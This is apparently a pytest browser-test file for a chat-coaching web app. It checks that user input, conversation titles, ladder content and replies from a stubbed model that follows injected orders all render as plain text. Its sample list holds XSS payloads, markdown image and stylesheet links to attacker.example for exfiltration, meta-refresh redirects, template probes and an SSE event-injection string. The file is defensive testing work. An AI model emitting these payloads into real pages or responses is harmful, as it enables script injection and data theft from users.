"""Text that would like to be more than text: in questions, titles, the ladder, and from a model
that obeys. Every page shows it as text; `watch` asserts that nothing else came of it.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest

from tests.browser.conftest import Watched, structure
from tests.browser.speakers import Obeying

SAMPLES = [  # for where COACH_TEST_DATA is not at hand
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe srcdoc="<script>alert(1)</script>">',
    "'\" autofocus onfocus=alert(1) x='",
    "</title></textarea></template><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "[x](javascript:alert(1)) ![x](https://attacker.example/logo.png?q=1)",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<style>@import 'https://attacker.example/x.css'</style>",
    "<form action=https://attacker.example/><button>go</button></form>",
    "{{ 7 * 7 }}{% raw %}${7 * 7}",
    "\u202ereversed\u2028event: done\ndata: {}\n\n",
]
KINDS = ("xss", "markdown_exfil", "sse_injection")
FOREIGN = "main :is(script, img, iframe, object, embed, link, style, meta, base)"


@pytest.fixture(scope="module")
def payloads() -> list[str]:
    folder = os.environ.get("COACH_TEST_DATA")
    if not folder:
        return SAMPLES
    lines = (Path(folder) / "attacks.jsonl").read_text(encoding="utf-8").splitlines()
    rows = [json.loads(line) for line in lines]
    return SAMPLES + [one["text"] for one in rows if one["kind"].startswith(KINDS)]


@pytest.fixture
def spiked(obeying: Obeying, payloads: list[str]) -> None:
    obeying.orders = payloads


def test_what_an_obeying_model_says_stays_text_live_and_stored(
    watch: Callable[..., Watched], obeying_url: str, spiked: None, payloads: list[str]
) -> None:
    page = watch(obeying_url).page
    page.goto("/")
    page.get_by_label("Your question").fill(payloads[1])
    page.keyboard.press("Enter")
    page.locator(".turn[data-state='complete']").wait_for(timeout=30_000)
    live = structure(page)
    words = page.locator(".turn .words")
    assert words.count() == 5 * len(payloads)
    assert words.all_text_contents() == [one for one in payloads for _ in range(5)]
    assert page.locator(".words *, .notice *, .asked .question *, .chip-label *").count() == 0
    assert page.locator(FOREIGN).count() == 0
    addresses = page.locator("a.chip").evaluate_all("all => all.map(one => one.href)")
    assert {one.split("/")[3] for one in addresses} == {"ladder"}
    for number in range(0, 5 * len(payloads), 25):
        page.locator("a.chip").nth(number).focus()
    page.locator("a.chip").nth(7).click()
    page.locator("#panel mark, #panel .small").first.wait_for()
    page.keyboard.press("Escape")
    page.reload()
    assert structure(page) == live


def test_what_people_type_stays_text_wherever_it_is_shown(
    watch: Callable[..., Watched], url: str, payloads: list[str]
) -> None:
    with httpx.Client(base_url=url) as api:
        made = api.post("/v1/conversations", json={}).json()["id"]
        sent = []
        for one in payloads:
            titled = api.post("/v1/conversations", json={"title": one[:200]})
            assert titled.status_code == 201
            told = api.post(f"/v1/conversations/{made}/messages", json={"question": one})
            sent += [one] if told.status_code == 200 else []
    assert len(sent) > len(payloads) / 2
    page = watch(url).page
    page.goto(f"/c/{made}")
    assert page.locator(".turn").count() == len(sent)
    assert page.locator(".asked .question *").count() == 0
    assert page.locator(FOREIGN).count() == 0
    page.goto("/c")
    assert page.locator(f"main {FOREIGN[5:]}, .entry a *").count() == 0
    page.goto(f"/login?next={quote(payloads[0])}")
    page.goto(f"/?about={quote(payloads[0])}")
    page.goto(f"/ladder/compare?a={quote(payloads[0])}")
    page.goto(f"/{quote(payloads[0], safe='')}")


def test_a_tampered_ladder_stays_text(
    watch: Callable[..., Watched], obeying_url: str, spiked: None, obeying: Obeying
) -> None:
    page = watch(obeying_url).page
    place = obeying.real.ladder.competencies[0].id
    for path in ("/", "/ladder", f"/ladder/{place}", f"/ladder/{place}/maker", "/ladder/compare"):
        page.goto(path)
        assert page.locator(FOREIGN).count() == 0
        assert page.locator(".sentence *, .stop-name *, h1 *, option *").count() == 0
